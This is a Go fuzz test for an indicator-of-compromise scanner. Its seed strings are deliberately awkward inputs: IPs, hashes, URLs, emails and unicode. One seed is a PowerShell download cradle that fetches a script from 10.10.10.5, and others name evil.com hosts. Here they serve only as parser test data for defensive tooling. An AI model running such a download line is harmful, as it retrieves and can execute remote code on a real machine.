package ioc

import "testing"

// plainSeeds is how many of the seeds have ASCII names only.
const plainSeeds = 9

var seeds = []string{
	"1.2.3.4 fe80::1%eth0 a.example.com b@example.org d41d8cd98f00b204e9800998ecf8427e",
	"(New-Object Net.WebClient).DownloadString('http://10.10.10.5:80/a.ps1');$t='/news.php'",
	`{"h":"EVIL.COM","u":"https://u:p@x.example.com:8443/a/(b)?c=d.com&e=http://f.com/g.zip#h"}`,
	"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
	"http://[::ffff:1.2.3.4]/ ::ffff:1.2.3.4 00:1a:2b:3c:4d:5e 12:34:56 1:2:3:4:5:6:7:8",
	"a.com@b.com@c.com O'Brien@evil.com x'+'y@evil.com evil.com[.]au a..b.com",
	`\r\nevil.com \nhttp://a.com\t %3Dhttps://b.com/ \u00271.2.3.4 C:\tree.com \\srv.corp.com\x`,
	"http://http://a.com/(http://b.com/x),http://c.com&quot; stratum+tcp://d.com:1/",
	"a.ws://b.com/c.d@e.com+http://f.com-1.2.3.4-https://[fe80::1]@g.com",
	"“münchen.de” http://пример.рф/ü。bob@münchen.de 访问example.com",
	"0.AC 0.AC \xeb.0.AC00.AC",
	"\xff.com \xe2\x80.a.com a\u200bb.com http://\xff http://a.com/\xe2\x80",
}

func FuzzScan(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	warm := New(All)
	f.Fuzz(func(t *testing.T, text string) {
		first, second := scan(t, New(All), text), scan(t, warm, text)
		if len(first) != len(second) {
			t.Fatalf("%q: %v, then %v", text, first, second)
		}
		for i, m := range first {
			if m != second[i] {
				t.Fatalf("%q: %v, then %v", text, m, second[i])
			}
		}
		if len(text) < 1<<10 {
			checkSubsets(t, text)
		}
	})
}
